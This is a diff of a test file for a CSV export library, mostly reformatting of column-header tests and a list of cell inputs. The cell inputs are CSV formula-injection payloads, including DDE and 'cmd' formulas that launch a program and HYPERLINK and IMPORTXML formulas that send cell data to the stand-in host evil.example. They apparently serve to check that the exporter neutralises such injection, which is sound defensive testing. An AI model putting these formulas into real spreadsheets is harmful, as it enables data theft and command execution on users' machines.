@@ -63,14 +63,21 @@ describe("columns", () => {
   })
 
   test("lists of objects keep an object's fields together", async () => {
-    const [header] = read(await written([{ rows: [{ a: 1, b: 2 }, { a: 3, b: 4 }] }]))
+    const [header] = read(
+      await written([
+        {
+          rows: [
+            { a: 1, b: 2 },
+            { a: 3, b: 4 },
+          ],
+        },
+      ]),
+    )
     expect(header).toEqual(["rows.0.a", "rows.0.b", "rows.1.a", "rows.1.b"])
   })
 
   test("an empty dataset has the schema's header", async () => {
-    expect(await written([], { schema })).toBe(
-      "\ufeffname,price.amount,price.currency,sold\r\n",
-    )
+    expect(await written([], { schema })).toBe("\ufeffname,price.amount,price.currency,sold\r\n")
   })
 
   test("what later items have beside is kept, as JSON in the last column", async () => {
@@ -130,8 +137,8 @@ describe("cells", () => {
     "=1+1",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example?x="&A1,"click")',
-    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
-    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
     "+1+1",
     "+cmd|' /C calc'!A0",
     "-1+1",
